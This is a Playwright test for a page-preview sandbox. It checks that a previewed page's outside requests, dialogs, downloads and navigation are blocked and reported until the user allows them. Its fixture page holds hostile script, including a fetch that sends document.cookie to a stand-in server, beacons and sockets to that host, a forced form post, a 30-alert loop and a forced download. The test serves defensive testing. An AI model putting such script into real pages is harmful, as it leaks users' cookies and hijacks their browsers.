/** A previewed page sends nothing anywhere, opens no dialog and loads nothing down; what it tries is told. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { violations } from './axe';
import { expect, goTo, openFiles, photograph, test } from './fixtures';

/** A server elsewhere, and what was asked of it. */
async function elsewhere(): Promise<{ address: string; asked: string[]; close: () => void }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, {
      'Access-Control-Allow-Origin': '*',
      'Cross-Origin-Resource-Policy': 'cross-origin',
      'Content-Type': request.url?.endsWith('.js') ? 'text/javascript' : 'text/css',
    });
    response.end(request.url?.endsWith('.js') ? 'document.title = "from outside";' : '');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  return { address: `http://127.0.0.1:${port}`, asked, close: () => server.close() };
}

const pageFor = (outside: string) => `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>own</title>
<link rel="stylesheet" href="${outside}/font.css">
<script src="${outside}/script.js"></script>
<style>body { background: url(${outside}/background.png) }</style></head>
<body><h1>Kites</h1>
<a href="a.jpg"><img src="a.jpg" alt="a"></a>
<img src="${outside}/pixel.gif" alt="">
<iframe src="${outside}/frame.html" title="f"></iframe>
<form action="${outside}/form" method="post" target="f2"><input name="a" value="b"></form>
<iframe name="f2" title="f2"></iframe>
<script>
  fetch('${outside}/fetched?' + document.cookie).catch(() => undefined);
  navigator.sendBeacon('${outside}/beacon', 'x');
  new WebSocket('${outside.replace('http', 'ws')}/socket').onerror = () => undefined;
  new EventSource('${outside}/events').onerror = () => undefined;
  document.forms[0].submit();
  for (let n = 0; n < 30; n++) alert('Dialog ' + n);
  document.body.dataset.answers = [confirm('sure?'), prompt('name?')].join();
  const link = document.createElement('a');
  link.href = 'a.jpg';
  link.download = 'taken.jpg';
  document.body.append(link);
  link.click();
  location.hash = 'on';
  setTimeout(() => { document.body.dataset.done = 'yes'; try { top.location = '${outside}/top'; } catch { /* refused */ } location.href = '${outside}/gone'; }, 300);
</script></body></html>`;

test('what a page asks outside, its dialogs and its downloads are off and told, until they are allowed', async ({
  page,
  expected,
}) => {
  expected.console.push(/./);
  const other = await elsewhere();
  const downloads: string[] = [];
  const dialogs: string[] = [];
  page.on('download', (download) => downloads.push(download.suggestedFilename()));
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await openFiles(page, { 'index.html': pageFor(other.address), 'a.jpg': await photograph(1) });
  const address = page.url();
  await goTo(page, 'proof');
  const told = page.getByRole('status', { name: 'What pages tried' });
  await expect(told).toContainText('External URLs are blocked');
  for (const path of [
    'font.css',
    'script.js',
    'background.png',
    'pixel.gif',
    'fetched',
    'beacon',
    'socket',
    'events',
    'form',
  ])
    await expect(told).toContainText(`/${path}`);
  await expect(told).toContainText(/index\.html opens a dialog: “Dialog 0”, and \d+ more/);
  await expect(told).toContainText('index.html starts a download: a.jpg');
  expect(await violations(page)).toEqual([]);
  expect(other.asked).toEqual([]);
  expect([downloads, dialogs]).toEqual([[], []]);
  expect(new URL(page.url()).origin).toBe(new URL(address).origin);

  await told.getByRole('button', { name: 'Allow them for this site' }).click();
  await expect.poll(() => other.asked.length).toBeGreaterThan(3);
  expect(other.asked).toContain('/font.css');
  await expect(page.getByRole('switch', { name: 'Allow external URLs' })).toBeChecked();
  expect([downloads, dialogs]).toEqual([[], []]);

  // It is this site's, and outlives a reload; taken back, nothing is asked any more.
  await page.reload();
  await expect(page.getByRole('switch', { name: 'Allow external URLs' })).toBeChecked();
  await page.getByRole('switch', { name: 'Allow external URLs' }).click();
  await expect(told).toContainText('External URLs are blocked');
  const before = other.asked.length;
  await expect(told).toContainText('/events');
  expect(other.asked).toHaveLength(before);
  other.close();
});
